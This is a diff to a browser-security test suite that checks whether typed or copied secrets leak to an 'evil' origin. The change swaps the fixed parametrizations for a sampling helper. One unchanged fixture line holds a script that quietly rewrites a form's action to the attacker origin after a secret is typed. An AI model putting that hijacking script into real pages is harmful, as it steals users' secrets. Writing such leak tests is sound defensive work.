@@ -19,6 +19,7 @@ from envs.security.secrets import SecretVault
 from tests.envs.browser.browsing import Opener, click, ref_of, type_text, visit
 from tests.envs.browser.web import Web
 from tests.envs.security.spellings import SPELLINGS
+from tests.sampled import sampled
 
 pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]
 
@@ -49,7 +50,13 @@ PASTES = ("Control+V", "Control+v", "Shift+Insert", "Control+Shift+V", "Control+
 
 
 @pytest.mark.parametrize(
-    ("copy", "paste"), [*((copy, "Control+V") for copy in COPIES), *(("Control+C", paste) for paste in PASTES[1:])]
+    ("copy", "paste"),
+    sampled(
+        [
+            *(pytest.param(copy, "Control+V", id=f"{copy}-Control+V") for copy in COPIES),
+            *(pytest.param("Control+C", paste, id=f"Control+C-{paste}") for paste in PASTES[1:]),
+        ]
+    ),
 )
 async def test_a_secret_was_copied_and_pasted_at_another_origin(
     opener: Opener, web: Web, evil: Web, copy: str, paste: str
@@ -171,7 +178,7 @@ FORMS = {
 }
 
 
-@pytest.mark.parametrize("form", FORMS.values(), ids=FORMS)
+@pytest.mark.parametrize("form", sampled(pytest.param(form, id=name) for name, form in FORMS.items()))
 async def test_a_form_of_its_own_origin_sent_a_secret_to_another(
     opener: Opener, web: Web, evil: Web, form: str
 ) -> None:
@@ -193,7 +200,10 @@ LATER = """<form id=f method=post action="/in"><input aria-label=Q name=p id=q>
     <script>q.addEventListener('input', () => f.action = '{evil}')</script>"""
 
 
-@pytest.mark.parametrize("way", ["click", "click at a place", "click on a label", "Enter", "Space", "typed Enter"])
+WAYS = ("click", "click at a place", "click on a label", "Enter", "Space", "typed Enter")
+
+
+@pytest.mark.parametrize("way", sampled(pytest.param(way, id=way) for way in WAYS))
 async def test_a_form_changed_its_address_after_a_secret_was_typed(
     opener: Opener, web: Web, evil: Web, way: str
 ) -> None:
